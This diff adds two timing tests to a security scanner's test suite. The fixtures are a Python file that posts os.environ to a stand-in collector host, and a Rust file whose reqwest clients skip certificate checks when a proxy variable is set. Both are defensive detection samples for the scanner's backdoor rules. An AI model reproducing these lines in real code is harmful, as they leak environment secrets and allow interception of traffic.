@@ -368,3 +368,28 @@ test('a 974 KB .mcp.json of 10,000 unpinned servers is scanned in under 3 s (was
   assert.equal(lines.length, 10_000);
   assert.equal(lines.at(-1), 2 + 9_999 * 7 + 1, 'the last server is reported on its own line');
 });
+
+test('a Python file of 10,000 posts of the environment to a host declared on its last line is scanned in under 6 s (the leaks check took 1.8 s for 4,000, quadratic); the host line is reported', () => {
+  const sends = Array.from({ length: 10_000 }, () => 'requests.post(HOST, data=os.environ)');
+  const text = ['import requests, os', ...sends, 'HOST = "https://collector.example.net/x"'].join('\n');
+  const r = scan([sourceDir('many-sends', { 'a.py': text })]);
+  assert.ok(r.ms < 6_000, `took ${Math.round(r.ms)} ms`);
+  assert.ok(
+    r.report.findings.some((f) => f.ruleId === 'backdoor.secret-to-host' && f.line === 10_002),
+    JSON.stringify(r.report.findings.filter((f) => f.line > 9990)),
+  );
+});
+
+test('a Rust file of 4,000 certificate checks switched off by an environment value declared on its last line is scanned in under 5 s (the check took 11 s for 336 KB); the declaration is reported', () => {
+  const uses = Array.from(
+    { length: 4000 },
+    () => 'let c = reqwest::Client::builder().danger_accept_invalid_certs(behind_proxy).build();',
+  );
+  const text = ['use std::env;', ...uses, 'let behind_proxy = env::var_os("HTTPS_PROXY").is_some();'].join('\n');
+  const r = scan([sourceDir('many-switches', { 'a.rs': text })]);
+  assert.ok(r.ms < 5_000, `took ${Math.round(r.ms)} ms`);
+  assert.ok(
+    r.report.findings.some((f) => f.ruleId === 'backdoor.verify-by-value' && f.line === 4002),
+    JSON.stringify(r.report.findings.filter((f) => f.line > 3990)),
+  );
+});
